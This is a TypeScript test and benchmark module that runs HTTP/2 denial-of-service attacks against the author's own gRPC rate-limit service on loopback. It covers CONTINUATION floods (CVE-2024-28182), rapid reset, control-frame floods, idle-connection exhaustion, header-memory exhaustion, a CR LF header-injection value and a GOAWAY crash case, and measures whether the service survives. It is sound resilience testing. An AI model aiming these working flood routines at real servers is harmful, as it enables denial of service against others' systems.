// HTTP/2 attacks on the gRPC port, and what they do to the service: the raw-frame attackers,
// a legitimate client beside them (its own process and connection), and the measurements
// (survival, the legitimate calls, RSS, CPU, when the server closed the attacking
// connections). Shared by test/integration/h2-attacks.test.ts and bench/h2-attacks.ts.
//
// The frames are built here, not with src/http2/ (frames.ts, hpack.ts): the attacker shares
// no code with the engine under test, and runs unchanged against an older build of the service
// (`bench/h2-attacks.ts --repo`). Only the request message uses the generated protobuf code.
import { spawn, type ChildProcess } from "node:child_process";
import {
  existsSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
  mkdirSync,
} from "node:fs";
import { connect as h2connect, type IncomingHttpHeaders } from "node:http2";
import { connect as netConnect, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setImmediate as nextTurn } from "node:timers/promises";
import { create, toBinary } from "@bufbuild/protobuf";
import { RateLimitRequestSchema } from "../../src/proto.js";
import { memoryServiceEnv } from "./spawn-service.js";

// ---- wire format (RFC 9113, RFC 7541) ----------------------------------------------------------

const T = {
  data: 0x0,
  headers: 0x1,
  priority: 0x2,
  rstStream: 0x3,
  settings: 0x4,
  ping: 0x6,
  goaway: 0x7,
  windowUpdate: 0x8,
  continuation: 0x9,
} as const;
const endStream = 0x1;
const ack = 0x1;
const endHeaders = 0x4;
const settingInitialWindow = 0x4;
const settingMaxConcurrentStreams = 0x3;
const cancel = 0x8;
const maxFramePayload = 16_384;
const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");

/** RFC 9113 §7 error code names, by code. */
export const h2ErrorNames = [
  "NO_ERROR",
  "PROTOCOL_ERROR",
  "INTERNAL_ERROR",
  "FLOW_CONTROL_ERROR",
  "SETTINGS_TIMEOUT",
  "STREAM_CLOSED",
  "FRAME_SIZE_ERROR",
  "REFUSED_STREAM",
  "CANCEL",
  "COMPRESSION_ERROR",
  "CONNECT_ERROR",
  "ENHANCE_YOUR_CALM",
  "INADEQUATE_SECURITY",
  "HTTP_1_1_REQUIRED",
] as const;

function errorName(code: number): string {
  return h2ErrorNames[code] ?? `0x${code.toString(16)}`;
}

/** One frame: 9-byte header and payload. */
export function h2Frame(
  type: number,
  flags: number,
  streamId: number,
  payload: Uint8Array = Buffer.alloc(0),
): Buffer {
  const out = Buffer.alloc(9 + payload.length);
  out.writeUIntBE(payload.length, 0, 3);
  out.writeUInt8(type, 3);
  out.writeUInt8(flags, 4);
  out.writeUInt32BE(streamId & 0x7fff_ffff, 5);
  out.set(payload, 9);
  return out;
}

function u32(value: number): Buffer {
  const out = Buffer.alloc(4);
  out.writeUInt32BE(value >>> 0);
  return out;
}

function settingsPayload(
  pairs: readonly (readonly [number, number])[],
): Buffer {
  const out = Buffer.alloc(6 * pairs.length);
  pairs.forEach(([id, value], i) => {
    out.writeUInt16BE(id, 6 * i);
    out.writeUInt32BE(value, 6 * i + 2);
  });
  return out;
}

/** An HPACK integer with an N-bit prefix (RFC 7541 §5.1); `high` holds the bits above it. */
function hpackInt(value: number, prefixBits: number, high: number): number[] {
  const max = (1 << prefixBits) - 1;
  if (value < max) return [high | value];
  const out = [high | max];
  let rest = value - max;
  while (rest >= 128) {
    out.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  out.push(rest);
  return out;
}

function hpackString(text: string): Buffer {
  const bytes = Buffer.from(text, "latin1");
  return Buffer.concat([Buffer.from(hpackInt(bytes.length, 7, 0)), bytes]);
}

/**
 * An HPACK header block of literal fields without indexing, new names, no Huffman (RFC 7541
 * §6.2.2): every byte of a name or value (space, NUL, CR, LF, upper case) reaches the server
 * as written.
 */
export function literalHeaderBlock(
  fields: readonly (readonly [string, string])[],
): Buffer {
  const parts: Buffer[] = [];
  for (const [name, value] of fields)
    parts.push(Buffer.from([0x00]), hpackString(name), hpackString(value));
  return Buffer.concat(parts);
}

const shouldRateLimitPath =
  "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit";

/** Request fields of a unary ShouldRateLimit call, plus `extra`. */
function requestFields(
  extra: readonly (readonly [string, string])[] = [],
  path = shouldRateLimitPath,
  contentType = "application/grpc",
): [string, string][] {
  return [
    [":method", "POST"],
    [":scheme", "http"],
    [":path", path],
    [":authority", "localhost"],
    ["content-type", contentType],
    ["te", "trailers"],
    ...extra.map(([n, v]): [string, string] => [n, v]),
  ];
}

/** A gRPC envelope: flags, length, message. */
function envelope(message: Uint8Array): Buffer {
  const out = Buffer.alloc(5 + message.length);
  out.writeUInt32BE(message.length, 1);
  out.set(message, 5);
  return out;
}

/** The ShouldRateLimit request the legitimate client sends (domain `rl`, `legit=client`). */
export const legitRequestBody = envelope(
  toBinary(
    RateLimitRequestSchema,
    create(RateLimitRequestSchema, {
      domain: "rl",
      descriptors: [{ entries: [{ key: "legit", value: "client" }] }],
    }),
  ),
);

/** The ShouldRateLimit request attackers send: no rule matches, so no counter is made. */
const attackRequestBody = envelope(
  toBinary(
    RateLimitRequestSchema,
    create(RateLimitRequestSchema, {
      domain: "rl",
      descriptors: [{ entries: [{ key: "attack", value: "x" }] }],
    }),
  ),
);

/** Config (domain `rl`) of a spawned service: the legitimate client's rule, never reached. */
export const attackServiceConfig = `domain: rl
descriptors:
  - key: legit
    rate_limit:
      unit: second
      requests_per_unit: 1000000000
`;

// ---- attacking connections -----------------------------------------------------------------

/** Counters of one attack, over all its connections. */
export class AttackStats {
  framesSent = 0;
  bytesSent = 0;
  readonly connections: AttackConnection[] = [];
  /** Frames received, by type name. */
  readonly received = new Map<string, number>();
  /** RST_STREAM received, by error name. */
  readonly resets = new Map<string, number>();
  /** GOAWAY debug data seen (first 80 bytes, distinct). */
  readonly goawayReasons = new Set<string>();

  count(map: Map<string, number>, key: string, n = 1): void {
    map.set(key, (map.get(key) ?? 0) + n);
  }
}

const typeNames = [
  "DATA",
  "HEADERS",
  "PRIORITY",
  "RST_STREAM",
  "SETTINGS",
  "PUSH_PROMISE",
  "PING",
  "GOAWAY",
  "WINDOW_UPDATE",
  "CONTINUATION",
];

/** How much of the connection preface a connection sends when it opens. */
export type PrefaceMode =
  | "none"
  | "half"
  /** Preface and an empty SETTINGS; the server's SETTINGS are not acknowledged. */
  | "settings"
  /** Preface, SETTINGS, and an ACK of the server's SETTINGS (a complete handshake). */
  | "full";

/**
 * One attacking TCP connection. It writes what the attack builds, counts frames and bytes,
 * reads everything the server sends (so the server's writes never back up), and notes when
 * the server sent GOAWAY and when it closed the socket.
 */
export class AttackConnection {
  readonly openedAt = performance.now();
  goawayAt: number | undefined = undefined;
  goawayCode: number | undefined = undefined;
  /** When the server closed the socket (FIN or reset), if it did. */
  closedByServerAt: number | undefined = undefined;
  /** The server's SETTINGS as received. */
  readonly serverSettings = new Map<number, number>();
  /** Connection-level send window for DATA (RFC 9113 §6.9). */
  sendWindow = 65_535;
  headersReceived = 0;
  private readonly socket: Socket;
  private readonly stats: AttackStats;
  private readonly ackSettings: boolean;
  private closedByUs = false;
  private ended = false;
  private pending = Buffer.alloc(0);
  private waiters: (() => void)[] = [];
  private settingsSeen = false;

  private constructor(
    socket: Socket,
    stats: AttackStats,
    ackSettings: boolean,
  ) {
    this.socket = socket;
    this.stats = stats;
    this.ackSettings = ackSettings;
    socket.on("data", (chunk: Buffer) => {
      this.onData(chunk);
    });
    socket.on("end", () => {
      this.onServerClose();
    });
    socket.on("error", () => undefined);
    socket.on("close", () => {
      this.onServerClose();
    });
  }

  /** Opens a connection to `port` on loopback and sends the preface as `mode` says. */
  static async open(
    port: number,
    stats: AttackStats,
    mode: PrefaceMode = "full",
  ): Promise<AttackConnection> {
    const socket = netConnect({ host: "127.0.0.1", port });
    socket.setNoDelay(true);
    await new Promise<void>((resolve, reject) => {
      socket.once("connect", () => {
        socket.off("error", reject);
        resolve();
      });
      socket.once("error", reject);
    });
    const conn = new AttackConnection(socket, stats, mode === "full");
    stats.connections.push(conn);
    if (mode === "half") conn.write(preface.subarray(0, 12), 0);
    else if (mode !== "none")
      conn.write(Buffer.concat([preface, h2Frame(T.settings, 0, 0)]), 1);
    return conn;
  }

  /** Whether the socket is still open (neither side closed it). */
  get alive(): boolean {
    return !this.ended;
  }

  /** Whether the server closed the connection. */
  get closedByServer(): boolean {
    return this.closedByServerAt !== undefined;
  }

  /**
   * Writes `bytes` (holding `frames` frames); resolves true once the socket can take more,
   * false when the connection is gone.
   */
  async send(bytes: Buffer, frames: number): Promise<boolean> {
    if (this.ended) return false;
    if (this.write(bytes, frames)) return true;
    await new Promise<void>((resolve) => {
      const done = (): void => {
        this.socket.off("drain", done);
        this.socket.off("close", done);
        resolve();
      };
      this.socket.on("drain", done);
      this.socket.on("close", done);
    });
    return !this.ended;
  }

  /** Waits for the server's SETTINGS (or the close, or `timeoutMs`). */
  async settings(timeoutMs = 2000): Promise<void> {
    const deadline = performance.now() + timeoutMs;
    while (!this.settingsSeen && !this.ended && performance.now() < deadline)
      await this.waitForInput(deadline - performance.now());
  }

  /** Waits until the connection window holds `bytes` of DATA, or the close, or `timeoutMs`. */
  async windowFor(bytes: number, timeoutMs = 2000): Promise<boolean> {
    const deadline = performance.now() + timeoutMs;
    while (
      this.sendWindow < bytes &&
      !this.ended &&
      performance.now() < deadline
    )
      await this.waitForInput(deadline - performance.now());
    return this.sendWindow >= bytes && !this.ended;
  }

  /** Waits until the server closes the socket, or `timeoutMs`. */
  async serverClose(timeoutMs: number): Promise<boolean> {
    const deadline = performance.now() + timeoutMs;
    while (!this.ended && performance.now() < deadline)
      await this.waitForInput(deadline - performance.now());
    return this.closedByServer;
  }

  /** Closes the socket from our side (not counted as a server close). */
  close(): void {
    if (!this.ended) this.closedByUs = true;
    this.ended = true;
    this.socket.destroy();
    this.wake();
  }

  private write(bytes: Buffer, frames: number): boolean {
    this.stats.framesSent += frames;
    this.stats.bytesSent += bytes.length;
    return this.socket.write(bytes);
  }

  private waitForInput(timeoutMs: number): Promise<void> {
    return new Promise((resolve) => {
      const timer = setTimeout(resolve, Math.max(1, timeoutMs));
      this.waiters.push(() => {
        clearTimeout(timer);
        resolve();
      });
    });
  }

  private wake(): void {
    const waiters = this.waiters;
    this.waiters = [];
    for (const w of waiters) w();
  }

  private onServerClose(): void {
    if (!this.ended && !this.closedByUs)
      this.closedByServerAt = performance.now();
    this.ended = true;
    this.socket.destroy();
    this.wake();
  }

  private onData(chunk: Buffer): void {
    let buf =
      this.pending.length === 0 ? chunk : Buffer.concat([this.pending, chunk]);
    let off = 0;
    while (buf.length - off >= 9) {
      const size = buf.readUIntBE(off, 3);
      if (buf.length - off < 9 + size) break;
      const type = buf.readUInt8(off + 3);
      const flags = buf.readUInt8(off + 4);
      const streamId = buf.readUInt32BE(off + 5) & 0x7fff_ffff;
      this.onFrame(
        type,
        flags,
        streamId,
        buf.subarray(off + 9, off + 9 + size),
      );
      off += 9 + size;
    }
    buf = buf.subarray(off);
    this.pending = buf.length === 0 ? Buffer.alloc(0) : Buffer.from(buf);
    this.wake();
  }

  private onFrame(
    type: number,
    flags: number,
    streamId: number,
    payload: Buffer,
  ): void {
    const stats = this.stats;
    stats.count(stats.received, typeNames[type] ?? `type ${type}`);
    switch (type) {
      case T.headers:
        this.headersReceived++;
        return;
      case T.rstStream:
        if (payload.length === 4)
          stats.count(stats.resets, errorName(payload.readUInt32BE(0)));
        return;
      case T.settings:
        if ((flags & ack) !== 0) return;
        for (let p = 0; p + 6 <= payload.length; p += 6)
          this.serverSettings.set(
            payload.readUInt16BE(p),
            payload.readUInt32BE(p + 2),
          );
        this.settingsSeen = true;
        if (this.ackSettings && !this.ended)
          this.write(h2Frame(T.settings, ack, 0), 1);
        return;
      case T.windowUpdate:
        if (streamId === 0 && payload.length === 4)
          this.sendWindow += payload.readUInt32BE(0) & 0x7fff_ffff;
        return;
      case T.goaway:
        if (this.goawayAt === undefined && payload.length >= 8) {
          this.goawayAt = performance.now();
          this.goawayCode = payload.readUInt32BE(4);
          if (payload.length > 8)
            stats.goawayReasons.add(payload.subarray(8, 88).toString("latin1"));
        }
        return;
      default:
        return;
    }
  }
}

// ---- attacks -------------------------------------------------------------------------------

/** What an attack runs with. */
export interface AttackContext {
  readonly port: number;
  readonly stats: AttackStats;
  /** Whether the attack should go on (its time is not up). */
  running(): boolean;
  /** Opens an attacking connection. */
  open(mode?: PrefaceMode): Promise<AttackConnection>;
  /** Adds a line to the result's notes. */
  note(text: string): void;
}

/** One attack. */
export interface Attack {
  /** `class` or `class/variant`, e.g. `control-flood/ping`. */
  readonly name: string;
  readonly description: string;
  /**
   * Whether the attack is over once every connection it opened was closed by the server (no
   * reconnect), rather than when its time is up.
   */
  readonly endsWhenAllClosed?: boolean;
  run(ctx: AttackContext): Promise<void>;
}

/** Bytes per write of a flood (then one event-loop turn, so replies are read). */
const batchBytes = 64 * 1024;

/** `frame` repeated to about {@link batchBytes}. */
function repeatFrame(frame: Buffer): { bytes: Buffer; frames: number } {
  const frames = Math.max(1, Math.floor(batchBytes / frame.length));
  return { bytes: Buffer.concat(Array<Buffer>(frames).fill(frame)), frames };
}

/**
 * Runs a flood: open a connection, `setup` it, then send `batch()` over and over, one
 * event-loop turn apart; when the server closes the connection, open a new one; until time
 * is up.
 */
async function flood(
  ctx: AttackContext,
  setup: (conn: AttackConnection) => Promise<void>,
  batch: (conn: AttackConnection) => { bytes: Buffer; frames: number },
): Promise<void> {
  while (ctx.running()) {
    let conn: AttackConnection;
    try {
      conn = await ctx.open("full");
    } catch (err) {
      ctx.note(`connect failed: ${String(err)}`);
      await new Promise((r) => setTimeout(r, 100));
      continue;
    }
    await conn.settings(1000);
    await setup(conn);
    while (ctx.running() && conn.alive) {
      const { bytes, frames } = batch(conn);
      if (!(await conn.send(bytes, frames))) break;
      await nextTurn();
    }
    conn.close();
    // A short pause before reconnecting, as a client with a backoff would.
    if (ctx.running()) await new Promise((r) => setTimeout(r, 10));
  }
}

/** HEADERS (+ CONTINUATION when longer than a frame) of one header block on `streamId`. */
function headerFrames(streamId: number, block: Buffer, flags: number): Buffer {
  if (block.length <= maxFramePayload)
    return h2Frame(T.headers, flags | endHeaders, streamId, block);
  const out: Buffer[] = [];
  for (let at = 0; at < block.length; at += maxFramePayload) {
    const piece = block.subarray(at, at + maxFramePayload);
    const last = at + maxFramePayload >= block.length;
    out.push(
      at === 0
        ? h2Frame(T.headers, flags, streamId, piece)
        : h2Frame(T.continuation, last ? endHeaders : 0, streamId, piece),
    );
  }
  return Buffer.concat(out);
}

/** Header blocks of requests the Connect router gets, each with one invalid field. */
function badHeaderBlocks(): { name: string; block: Buffer }[] {
  const routes: [string, [string, string][]][] = [
    [
      "grpc-web",
      requestFields([], shouldRateLimitPath, "application/grpc-web+proto"),
    ],
    ["gzip", requestFields([["grpc-encoding", "gzip"]])],
    ["health", requestFields([], "/grpc.health.v1.Health/Check")],
  ];
  const bad: [string, [string, string]][] = [
    ["space in name", ["x bad", "1"]],
    ["control char in name", ["x-bad\x01", "1"]],
    ["upper case name", ["X-Bad", "1"]],
    ["NUL in value", ["x-bad", "a\x00b"]],
    ["CR LF in value", ["x-bad", "a\r\nx-injected: 1"]],
  ];
  const out: { name: string; block: Buffer }[] = [];
  for (const [route, fields] of routes)
    for (const [what, field] of bad)
      out.push({
        name: `${route}: ${what}`,
        block: literalHeaderBlock([...fields, field]),
      });
  return out;
}

/** Sends new streams as fast as the connection takes them, `perStream(id)` each. */
async function streamFlood(
  ctx: AttackContext,
  perStream: (
    streamId: number,
    conn: AttackConnection,
  ) => { bytes: Buffer; frames: number; data: number },
  streamsPerBatch: number,
): Promise<void> {
  while (ctx.running()) {
    let conn: AttackConnection;
    try {
      conn = await ctx.open("full");
    } catch (err) {
      ctx.note(`connect failed: ${String(err)}`);
      await new Promise((r) => setTimeout(r, 100));
      continue;
    }
    await conn.settings(1000);
    let id = 1;
    while (ctx.running() && conn.alive && id < 0x7fff_0000) {
      const parts: Buffer[] = [];
      let frames = 0;
      let data = 0;
      for (let i = 0; i < streamsPerBatch; i++, id += 2) {
        const s = perStream(id, conn);
        parts.push(s.bytes);
        frames += s.frames;
        data += s.data;
      }
      // Honour the connection's flow-control window, as any client must.
      if (data > 0 && !(await conn.windowFor(data))) break;
      conn.sendWindow -= data;
      if (!(await conn.send(Buffer.concat(parts), frames))) break;
      await nextTurn();
    }
    conn.close();
    if (ctx.running()) await new Promise((r) => setTimeout(r, 10));
  }
}

const badHeader: Attack = {
  name: "bad-header",
  description:
    "requests for the Connect router (gRPC-web, grpc-encoding gzip, health check) with a space, control char or upper case in a header name or NUL/CR/LF in a value, on new streams as fast as possible",
  run(ctx) {
    const blocks = badHeaderBlocks();
    const data = h2Frame(T.data, endStream, 0, attackRequestBody);
    let n = 0;
    return streamFlood(
      ctx,
      (id) => {
        const variant = blocks[n++ % blocks.length]!;
        const body = Buffer.from(data);
        body.writeUInt32BE(id, 5);
        return {
          bytes: Buffer.concat([
            h2Frame(T.headers, endHeaders, id, variant.block),
            body,
          ]),
          frames: 2,
          data: attackRequestBody.length,
        };
      },
      64,
    );
  },
};

/** A header block opened on stream 1 and never ended, then CONTINUATION frames of `fragment`. */
function continuationFlood(
  name: string,
  fragment: Buffer,
  description: string,
): Attack {
  return {
    name,
    description,
    run(ctx) {
      // The HEADERS frame ends inside a literal value 1 MiB long, so every later fragment is
      // part of a valid (never finished) block.
      const start = Buffer.concat([
        literalHeaderBlock(requestFields()),
        Buffer.from([0x00]),
        hpackString("x-pad"),
        Buffer.from(hpackInt(1 << 20, 7, 0)),
      ]);
      const batch = repeatFrame(h2Frame(T.continuation, 0, 1, fragment));
      return flood(
        ctx,
        async (conn) => {
          await conn.send(h2Frame(T.headers, 0, 1, start), 1);
        },
        () => batch,
      );
    },
  };
}

const continuationEmpty = continuationFlood(
  "continuation-flood/empty",
  Buffer.alloc(0),
  "one HEADERS without END_HEADERS, then empty CONTINUATION frames without end (CVE-2024-28182)",
);

const continuationSmall = continuationFlood(
  "continuation-flood/small",
  Buffer.alloc(16, "a"),
  "one HEADERS without END_HEADERS, then CONTINUATION frames of 16 bytes without end",
);

/** Connections of the idle attack, and how they open. */
const idleModes: readonly PrefaceMode[] = ["none", "half", "settings", "full"];

const idle: Attack = {
  name: "idle",
  description:
    "2,000 connections, 500 each: nothing sent / half the preface / preface and SETTINGS, no ACK / a complete handshake; then silence",
  endsWhenAllClosed: true,
  async run(ctx) {
    const total = 2000;
    const byMode = new Map<PrefaceMode, AttackConnection[]>();
    for (let i = 0; i < total && ctx.running(); i += 100) {
      await Promise.all(
        Array.from({ length: 100 }, async (_, j) => {
          const mode = idleModes[(i + j) % idleModes.length]!;
          try {
            const conn = await ctx.open(mode);
            byMode.set(mode, [...(byMode.get(mode) ?? []), conn]);
          } catch (err) {
            ctx.note(`connect failed (${mode}): ${String(err)}`);
          }
        }),
      );
    }
    while (ctx.running() && ctx.stats.connections.some((c) => c.alive))
      await new Promise((r) => setTimeout(r, 50));
    for (const mode of idleModes) {
      const conns = byMode.get(mode) ?? [];
      const closed = conns.filter((c) => c.closedByServer);
      const slowest = Math.max(
        0,
        ...closed.map((c) => (c.closedByServerAt ?? 0) - c.openedAt),
      );
      ctx.note(
        `idle ${mode === "none" ? "silent" : mode === "half" ? "half preface" : mode === "settings" ? "preface+SETTINGS, no ACK" : "complete handshake"}: ${closed.length}/${conns.length} closed by the server` +
          (closed.length > 0
            ? `, the last after ${(slowest / 1000).toFixed(1)} s`
            : ""),
      );
    }
  },
};

/** Opens `count` ShouldRateLimit streams whose request never ends (no END_STREAM). */
function openStreams(
  count: number,
  firstId = 1,
): { bytes: Buffer; frames: number; nextId: number } {
  const block = literalHeaderBlock(requestFields());
  const parts: Buffer[] = [];
  let id = firstId;
  for (let i = 0; i < count; i++, id += 2)
    parts.push(h2Frame(T.headers, endHeaders, id, block));
  return { bytes: Buffer.concat(parts), frames: count, nextId: id };
}

const pingFlood: Attack = {
  name: "control-flood/ping",
  description:
    "PING frames as fast as the connection takes them (the ACKs are read)",
  run(ctx) {
    const batch = repeatFrame(h2Frame(T.ping, 0, 0, Buffer.alloc(8, 7)));
    return flood(
      ctx,
      () => Promise.resolve(),
      () => batch,
    );
  },
};

const settingsFlood: Attack = {
  name: "control-flood/settings",
  description:
    "SETTINGS frames alternating INITIAL_WINDOW_SIZE 65,535 / 1 MiB, with 10 open streams",
  run(ctx) {
    const a = h2Frame(
      T.settings,
      0,
      0,
      settingsPayload([[settingInitialWindow, 65_535]]),
    );
    const b = h2Frame(
      T.settings,
      0,
      0,
      settingsPayload([[settingInitialWindow, 1 << 20]]),
    );
    const batch = repeatFrame(Buffer.concat([a, b]));
    batch.frames *= 2;
    return flood(
      ctx,
      async (conn) => {
        const s = openStreams(10);
        await conn.send(s.bytes, s.frames);
      },
      () => batch,
    );
  },
};

const emptyDataFlood: Attack = {
  name: "control-flood/empty-data",
  description:
    "empty DATA frames without END_STREAM on an open ShouldRateLimit stream",
  run(ctx) {
    const batch = repeatFrame(h2Frame(T.data, 0, 1));
    return flood(
      ctx,
      async (conn) => {
        const s = openStreams(1);
        await conn.send(s.bytes, s.frames);
      },
      () => batch,
    );
  },
};

const windowUpdateFlood: Attack = {
  name: "control-flood/window-update",
  description:
    "WINDOW_UPDATE frames (increment 1) on the connection and on an open stream",
  run(ctx) {
    const batch = repeatFrame(
      Buffer.concat([
        h2Frame(T.windowUpdate, 0, 0, u32(1)),
        h2Frame(T.windowUpdate, 0, 1, u32(1)),
      ]),
    );
    batch.frames *= 2;
    return flood(
      ctx,
      async (conn) => {
        const s = openStreams(1);
        await conn.send(s.bytes, s.frames);
      },
      () => batch,
    );
  },
};

const priorityFlood: Attack = {
  name: "control-flood/priority",
  description: "PRIORITY frames, each on a new (idle) stream id",
  run(ctx) {
    const frame = h2Frame(T.priority, 0, 1, Buffer.from([0, 0, 0, 0, 16]));
    const { bytes, frames } = repeatFrame(frame);
    let id = 1;
    return flood(
      ctx,
      () => {
        id = 1;
        return Promise.resolve();
      },
      () => {
        const out = Buffer.from(bytes);
        for (let at = 0; at < out.length; at += frame.length) {
          out.writeUInt32BE(id, at + 5);
          id = id + 2 > 0x7fff_0000 ? 1 : id + 2;
        }
        return { bytes: out, frames };
      },
    );
  },
};

const refusedStreams: Attack = {
  name: "control-flood/refused-streams",
  description:
    "opens SETTINGS_MAX_CONCURRENT_STREAMS streams that never end (at most 1,000 when the server sets no limit), then new streams beyond it as fast as possible",
  async run(ctx) {
    const fill = literalHeaderBlock(requestFields());
    const block = literalHeaderBlock(requestFields());
    let reported = false;
    while (ctx.running()) {
      let conn: AttackConnection;
      try {
        conn = await ctx.open("full");
      } catch (err) {
        ctx.note(`connect failed: ${String(err)}`);
        await new Promise((r) => setTimeout(r, 100));
        continue;
      }
      await conn.settings(1000);
      const max = Math.min(
        conn.serverSettings.get(settingMaxConcurrentStreams) ?? 1000,
        1000,
      );
      if (!reported) {
        reported = true;
        ctx.note(
          `server SETTINGS_MAX_CONCURRENT_STREAMS: ${conn.serverSettings.get(settingMaxConcurrentStreams) ?? "none"}; holding ${max} streams open`,
        );
      }
      let id = 1;
      for (let i = 0; i < max && conn.alive; i += 100) {
        const parts: Buffer[] = [];
        for (let j = 0; j < 100 && i + j < max; j++, id += 2)
          parts.push(h2Frame(T.headers, endHeaders, id, fill));
        await conn.send(Buffer.concat(parts), parts.length);
      }
      while (ctx.running() && conn.alive && id < 0x7fff_0000) {
        const parts: Buffer[] = [];
        for (let j = 0; j < 256; j++, id += 2)
          parts.push(h2Frame(T.headers, endHeaders | endStream, id, block));
        if (!(await conn.send(Buffer.concat(parts), parts.length))) break;
        await nextTurn();
      }
      conn.close();
      if (ctx.running()) await new Promise((r) => setTimeout(r, 10));
    }
  },
};

const rapidReset: Attack = {
  name: "rapid-reset",
  description:
    "a complete ShouldRateLimit request (HEADERS + DATA) then RST_STREAM CANCEL, on new streams as fast as possible; reconnects when closed",
  run(ctx) {
    const block = literalHeaderBlock(requestFields());
    return streamFlood(
      ctx,
      (id) => ({
        bytes: Buffer.concat([
          h2Frame(T.headers, endHeaders, id, block),
          h2Frame(T.data, endStream, id, attackRequestBody),
          h2Frame(T.rstStream, 0, id, u32(cancel)),
        ]),
        frames: 3,
        data: attackRequestBody.length,
      }),
      256,
    );
  },
};

const headerMemory: Attack = {
  name: "header-memory",
  description:
    "4 connections, each opening streams with ~60 KiB header lists (HEADERS + 3 CONTINUATION) that never end, up to the server's stream limit (1,000 when it sets none); reconnects when closed",
  async run(ctx) {
    // 58 fields of 1,000 bytes: 58 × (8 + 1,000 + 32) ≈ 60 KiB as SETTINGS_MAX_HEADER_LIST_SIZE
    // counts, under the usual 64 KiB limit, so the server must hold each list.
    const pad = Array.from({ length: 58 }, (_, i): [string, string] => [
      `x-pad-${String(i).padStart(2, "0")}`,
      String.fromCharCode(97 + (i % 26)).repeat(1000),
    ]);
    const block = literalHeaderBlock(requestFields(pad));
    const frameCount = Math.ceil(block.length / maxFramePayload);
    let held = 0;
    await Promise.all(
      Array.from({ length: 4 }, async () => {
        while (ctx.running()) {
          let conn: AttackConnection;
          try {
            conn = await ctx.open("full");
          } catch (err) {
            ctx.note(`connect failed: ${String(err)}`);
            await new Promise((r) => setTimeout(r, 100));
            continue;
          }
          await conn.settings(1000);
          const max = Math.min(
            conn.serverSettings.get(settingMaxConcurrentStreams) ?? 1000,
            1000,
          );
          let id = 1;
          for (let i = 0; i < max && conn.alive && ctx.running(); i += 4) {
            const parts: Buffer[] = [];
            for (let j = 0; j < 4 && i + j < max; j++, id += 2)
              parts.push(headerFrames(id, block, 0));
            if (
              !(await conn.send(
                Buffer.concat(parts),
                parts.length * frameCount,
              ))
            )
              break;
            await nextTurn();
          }
          held = Math.max(held, (id - 1) / 2);
          while (ctx.running() && conn.alive) await conn.serverClose(100);
          conn.close();
          if (ctx.running()) await new Promise((r) => setTimeout(r, 10));
        }
      }),
    );
    ctx.note(
      `header-memory: at most ${held} streams sent on one connection (${(block.length / 1024).toFixed(1)} KiB each)`,
    );
  },
};

// Once crashed the node engine (its former hand-written ShouldRateLimit path); it runs on both
// engines: the built-in engine answers inline, the node engine through the Connect router.
const grpcTimeoutGoaway: Attack = {
  name: "grpc-timeout-goaway",
  description:
    "a ShouldRateLimit request with grpc-timeout: x (answered INVALID_ARGUMENT), then a client GOAWAY INTERNAL_ERROR, on new connections (8 at a time)",
  async run(ctx) {
    const block = literalHeaderBlock(requestFields([["grpc-timeout", "x"]]));
    const headers = h2Frame(T.headers, endHeaders, 1, block);
    const data = h2Frame(T.data, endStream, 1, attackRequestBody);
    const goaway = h2Frame(T.goaway, 0, 0, Buffer.concat([u32(0), u32(2)]));
    let round = 0;
    await Promise.all(
      Array.from({ length: 8 }, async () => {
        while (ctx.running()) {
          let conn: AttackConnection;
          try {
            conn = await ctx.open("full");
          } catch (err) {
            ctx.note(`connect failed: ${String(err)}`);
            await new Promise((r) => setTimeout(r, 100));
            continue;
          }
          // Alternately: the whole request then GOAWAY in one write; or HEADERS, GOAWAY at
          // once, then the body a moment later.
          if (round++ % 2 === 0) {
            await conn.send(Buffer.concat([headers, data, goaway]), 3);
          } else {
            await conn.send(Buffer.concat([headers, goaway]), 2);
            await new Promise((r) => setTimeout(r, 1));
            await conn.send(data, 1);
          }
          await conn.serverClose(20);
          conn.close();
        }
      }),
    );
  },
};

/** Every attack, in the order the script and the test run them. */
export const attacks: readonly Attack[] = [
  badHeader,
  continuationEmpty,
  continuationSmall,
  idle,
  pingFlood,
  settingsFlood,
  emptyDataFlood,
  windowUpdateFlood,
  priorityFlood,
  refusedStreams,
  rapidReset,
  headerMemory,
  grpcTimeoutGoaway,
];

/** The attack called `name`. */
export function attackNamed(name: string): Attack {
  const found = attacks.find((a) => a.name === name);
  if (found === undefined)
    throw new Error(
      `no attack ${name}; known: ${attacks.map((a) => a.name).join(", ")}`,
    );
  return found;
}

// ---- the service under attack --------------------------------------------------------------

/** A service process to attack: spawned here, or one already running. */
export interface AttackTarget {
  readonly port: number;
  /** Process id, for RSS and CPU; without it those are not measured. */
  readonly pid: number | undefined;
  /** Whether the process still runs. */
  isRunning(): boolean;
  /** How it ended (exit code or signal), when it did. */
  exitDescription(): string | undefined;
  /** The last part of its output, when spawned here. */
  output(): string;
}

/** A service spawned by {@link spawnAttackTarget}. */
export interface SpawnedTarget extends AttackTarget {
  readonly pid: number;
  /** SIGTERM, SIGKILL after 3 s; removes its config folder. */
  stop(): Promise<void>;
}

/** What an attack target runs. */
export interface SpawnOptions {
  /** Repository holding the built service (`dist/src/main.js`). */
  readonly repo: string;
  /** `GRPC_HTTP2_ENGINE`. */
  readonly engine: string;
  /** Further environment (e.g. `GRPC_HANDSHAKE_TIMEOUT`). */
  readonly env?: Record<string, string>;
  /** Node binary. @defaultValue this process's */
  readonly node?: string;
}

/** The last `max` characters of output kept per spawned service. */
const outputTailChars = 16_000;

/**
 * Spawns `<repo>/dist/src/main.js` on the memory backend with a config of domain `rl`, on
 * loopback ports probed free, with bin/ratelimit's V8 flags, and waits until it answers
 * ShouldRateLimit.
 */
export async function spawnAttackTarget(
  options: SpawnOptions,
): Promise<SpawnedTarget> {
  const main = join(options.repo, "dist", "src", "main.js");
  if (!existsSync(main))
    throw new Error(`${main} does not exist: build that repository first`);
  const root = mkdtempSync(join(tmpdir(), "h2-attacks-"));
  mkdirSync(join(root, "config"));
  writeFileSync(join(root, "config", "attack.yaml"), attackServiceConfig);
  // Statistics are kept (the http2 counters), but not pushed to a statsd nobody runs.
  const { env: serviceEnv, grpcPort: port } = await memoryServiceEnv(
    options.engine,
    root,
    options.env,
  );
  const env = { PATH: process.env["PATH"] ?? "", ...serviceEnv };
  // V8 flags as bin/ratelimit sets them (8 MiB semi-spaces): without them the young generation
